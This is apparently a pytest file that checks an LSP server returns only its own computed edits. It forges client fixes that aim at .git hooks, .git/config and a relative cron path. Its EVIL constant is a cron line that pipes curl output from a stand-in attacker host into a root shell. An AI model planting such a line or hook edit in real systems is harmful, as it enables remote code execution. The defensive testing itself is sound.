"""What comes back from a client is not trusted (issue 17, item 1): the server returns only
edits it computed itself, only inside the project root, never inside `.git/`.

A real `integrity-lsp serve` is started in the project folder (a relative path then resolves
inside the root, as the audit found) and sent diagnostics whose `data` carries crafted fixes,
`codeAction/resolve` requests for fixes it never offered, and actions that already carry an
edit. Every edit in every answer -- inline or resolved -- must be one the server computes for
the document, in a file inside the root and outside `.git/`.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from integrity_lsp.server.documents import path_to_uri
from tests.robustness.raw_lsp import RawServer, raw_server
from tests.robustness.support import write_tree
from tests.robustness.test_fix_writes import PROJECT

EVIL = "* * * * * root curl evil.example | sh\n"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = write_tree(
        tmp_path / "proj",
        {
            **PROJECT,
            ".git/config": "[core]\n",
            ".git/hooks/pre-commit": "#!/bin/sh\n",
            # `etc/cron.d/x` resolved against the server's working folder (the root) exists
            "etc/cron.d/x": "",
        },
    )
    return root


def _crafted_paths(root: Path) -> list[str]:
    return ["etc/cron.d/x", str(root / ".git" / "hooks" / "pre-commit"), str(root / ".git/config")]


def _crafted_fix(path: str) -> dict[str, Any]:
    return {
        "title": "Use `Product.objects.get_or_create()`",
        "applicability": "safe",
        "edits": [{"path": path, "span": [1, 0, 1, 0], "content": EVIL}],
    }


def _data(root: Path, which: int, *, fixes: bool = False, **fields: Any) -> dict[str, Any]:
    """A code action's or a diagnostic's `data` (the shape the server writes) carrying a
    crafted fix: under "fixes" (a diagnostic's) or "fix" (an action's)."""
    fix = _crafted_fix(_crafted_paths(root)[which])
    return {
        **fields,
        "code": "IL101",
        "version": 1,
        **({"fixes": [fix]} if fixes else {"fix": fix}),
    }


def _edits(answer: Any) -> list[tuple[str, str]]:
    """(uri, new text) of every edit in a WorkspaceEdit, a CodeAction or a list of them."""
    found: list[tuple[str, str]] = []
    if isinstance(answer, list):
        for item in answer:
            found.extend(_edits(item))
    elif isinstance(answer, dict):
        edit = answer.get("edit") if "title" in answer else answer
        if not isinstance(edit, dict):
            return found
        for uri, edits in (edit.get("changes") or {}).items():
            found.extend((uri, e["newText"]) for e in edits)
        for change in edit.get("documentChanges") or []:
            uri = change.get("textDocument", {}).get("uri") or change.get("uri", "")
            found.extend((uri, e["newText"]) for e in change.get("edits", [(None, "")]) if e)
    return found


def _resolved(server: RawServer, actions: list[dict[str, Any]]) -> list[dict[str, Any]]:
    out = []
    for action in actions:
        if "edit" in action or "data" not in action:
            out.append(action)
        else:
            answer = server.request("codeAction/resolve", action)
            out.append(answer.get("result") or {})
    return out


def _assert_only_own_edits(root: Path, edits: list[tuple[str, str]]) -> None:
    inside = path_to_uri(root.resolve()) + "/"
    for uri, text in edits:
        assert uri.startswith(inside), f"an edit outside the root: {uri}"
        assert "/.git/" not in uri, f"an edit inside .git/: {uri}"
        assert EVIL not in text, f"a crafted edit was returned for {uri}"


def _race(server: RawServer, root: Path) -> tuple[str, dict[str, Any]]:
    uri = server.open(root / "shop" / "services.py")
    race = next(d for d in server.pull(uri) if d["code"] == "IL101")
    return uri, race


@pytest.mark.parametrize("which", [0, 1, 2], ids=["relative", "git-hook", "git-config"])
def test_fixes_in_a_diagnostics_data_are_never_returned(project: Path, which: int) -> None:
    with raw_server(project) as server:
        server.initialize(project)
        uri, race = _race(server, project)
        crafted = {**race, "data": _data(project, which, v=1, fixes=True)}
        answer = server.request(
            "textDocument/codeAction",
            {
                "textDocument": {"uri": uri},
                "range": race["range"],
                "context": {"diagnostics": [crafted]},
            },
        )
        actions = _resolved(server, answer["result"] or [])
        edits = _edits(actions)
        assert edits, "the server's own fix is offered"
        _assert_only_own_edits(project, edits)
        assert any("get_or_create" in text for _uri, text in edits)


@pytest.mark.parametrize("which", [0, 1, 2], ids=["relative", "git-hook", "git-config"])
def test_resolve_never_returns_a_fix_the_server_did_not_offer(project: Path, which: int) -> None:
    with raw_server(project) as server:
        server.initialize(project)
        uri, _race_diagnostic = _race(server, project)
        forged = {
            "title": "Use `Product.objects.get_or_create()`",
            "kind": "quickfix",
            "data": _data(project, which, kind="fix", uri=uri),
        }
        answer = server.request("codeAction/resolve", forged)
        _assert_only_own_edits(project, _edits(answer.get("result")))


def test_resolve_drops_an_edit_the_request_already_carries(project: Path) -> None:
    with raw_server(project) as server:
        server.initialize(project)
        uri, _race_diagnostic = _race(server, project)
        hook = path_to_uri(project / ".git" / "hooks" / "pre-commit")
        carried = {
            "title": "Use `Product.objects.get_or_create()`",
            "kind": "quickfix",
            "edit": {
                "changes": {
                    hook: [
                        {
                            "range": {
                                "start": {"line": 0, "character": 0},
                                "end": {"line": 0, "character": 0},
                            },
                            "newText": EVIL,
                        }
                    ]
                }
            },
            "data": {"kind": "fix", "uri": uri, "version": 1, "code": "IL101"},
        }
        answer = server.request("codeAction/resolve", carried)
        _assert_only_own_edits(project, _edits(answer.get("result")))
